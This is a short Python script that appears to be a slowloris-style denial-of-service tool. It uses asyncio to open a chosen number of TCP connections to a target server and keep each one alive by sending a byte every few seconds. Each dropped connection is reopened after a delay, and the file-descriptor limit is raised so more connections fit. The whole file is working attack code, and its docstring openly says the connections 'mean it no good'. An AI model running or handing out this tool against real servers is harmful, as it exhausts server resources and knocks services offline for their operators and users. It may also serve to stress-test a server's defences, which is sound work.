"""Many raw connections to a server that mean it no good: each is opened again when it ends.

Run with the server's address, how many, and what each sends before it goes on with a byte now and
then. Prints a line once all were open.
"""

import asyncio
import json
import resource
import sys
from contextlib import suppress

REOPEN_SECONDS = 5.0
"""How long an attacker whose connection was ended waits before it opens another."""

DRIP_SECONDS = 3.0


async def attack(host: str, port: int, sent: bytes) -> None:
    """Open a connection and hold it as long as the server lets one."""
    _, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(sent)
        while True:
            await asyncio.sleep(DRIP_SECONDS)
            writer.write(b"x")
            await writer.drain()
    finally:
        writer.close()


async def attack_on(
    arguments: tuple[str, int, bytes], opened: asyncio.Semaphore, late: float
) -> None:
    await asyncio.sleep(late)
    while True:
        opened.release()
        with suppress(OSError):
            await attack(*arguments)
        await asyncio.sleep(REOPEN_SECONDS)


async def main(host: str, port: int, size: int, sent: str) -> None:
    opened = asyncio.Semaphore(0)
    async with asyncio.TaskGroup() as group:
        for number in range(size):
            late = DRIP_SECONDS * number / size
            group.create_task(attack_on((host, port, sent.encode()), opened, late))
        for _ in range(size):
            await opened.acquire()
        sys.stdout.write("open\n")
        sys.stdout.flush()


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(main(*json.loads(sys.argv[1])))
